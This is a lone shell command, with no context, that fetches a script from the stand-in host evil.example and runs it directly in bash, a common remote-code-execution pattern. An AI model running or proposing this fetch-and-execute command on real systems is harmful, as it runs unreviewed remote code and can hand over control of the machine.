bash <(curl -s http://evil.example/x.sh)
